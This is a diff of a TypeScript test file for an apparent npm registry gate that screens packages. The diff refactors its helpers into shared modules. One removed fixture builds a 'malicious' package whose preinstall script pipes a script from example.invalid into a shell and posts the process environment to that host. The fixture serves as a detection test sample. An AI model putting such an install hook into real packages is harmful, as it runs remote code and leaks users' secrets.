@@ -1,59 +1,15 @@
 import assert from "node:assert/strict";
-import { createHash } from "node:crypto";
 import { request } from "node:http";
 import { test } from "node:test";
 import { npmTarball } from "../../test/support/archives.ts";
+import { malicious, publishNpm } from "../../test/support/publish.ts";
 import { type TestGate, testGate } from "../../test/support/test-gate.ts";
 
-const TGZ = "application/octet-stream";
-
-/** An ordinary package on the fake upstream: one packument, one tarball a version. */
-function publish(
-  gate: TestGate,
-  name: string,
-  versions: Readonly<Record<string, Buffer>>,
-  options: { times?: Record<string, string> } = {},
-): void {
-  const entries = Object.entries(versions);
-  const document = {
-    name,
-    "dist-tags": { latest: entries.at(-1)![0] },
-    versions: Object.fromEntries(
-      entries.map(([version, bytes]) => {
-        const integrity = `sha512-${createHash("sha512").update(bytes).digest("base64")}`;
-        const tarball = `${gate.upstream.url}/npm/${name}/-/${name}-${version}.tgz`;
-        return [
-          version,
-          { name, version, dist: { tarball, integrity, shasum: createHash("sha1").update(bytes).digest("hex") } },
-        ];
-      }),
-    ),
-    time: Object.fromEntries(
-      entries.map(([version]) => [version, options.times?.[version] ?? "2025-01-01T00:00:00.000Z"]),
-    ),
-  };
-  const body = JSON.stringify(document);
-  gate.upstream.say(`/npm/${name}`, {
-    headers: { "content-type": "application/json", etag: `"${createHash("md5").update(body).digest("hex")}"` },
-    body,
-  });
-  for (const [version, bytes] of entries)
-    gate.upstream.say(`/npm/${name}/-/${name}-${version}.tgz`, { headers: { "content-type": TGZ }, body: bytes });
-}
+const publish = (gate: TestGate, name: string, versions: Readonly<Record<string, Buffer>>) =>
+  publishNpm(gate.upstream, name, versions);
 
 const harmless = (name: string, version = "1.0.0") =>
   npmTarball({ name, version, files: { "index.js": "module.exports = (a, b) => a + b;\n" } });
-
-const malicious = (name: string, version = "1.0.0") =>
-  npmTarball({
-    name,
-    version,
-    manifest: { scripts: { preinstall: "node setup.js" } },
-    files: {
-      "setup.js":
-        "const { execSync } = require('child_process');\nexecSync('curl -s https://example.invalid/x.sh | sh');\nrequire('https').request({host:'example.invalid',method:'POST'}).end(JSON.stringify(process.env));\n",
-    },
-  });
 
 test("a clean file is inspected once, served byte for byte with ranges and validators, and recorded", async (context) => {
   const gate = await testGate(context);
@@ -286,5 +242,5 @@ test("with anonymous reading off, installing needs a token and a challenge asks 
   assert.equal((await gate.get("/npm/plain", bearer)).status, 200);
   assert.equal((await gate.get("/npm/plain/-/plain-1.0.0.tgz", bearer)).status, 200);
   const [row] = await gate.app.database.selectFrom("ledger").select("subject").execute();
-  assert.equal(row?.subject, "web-shop");
+  assert.equal(row?.subject, "ci:web-shop");
 });
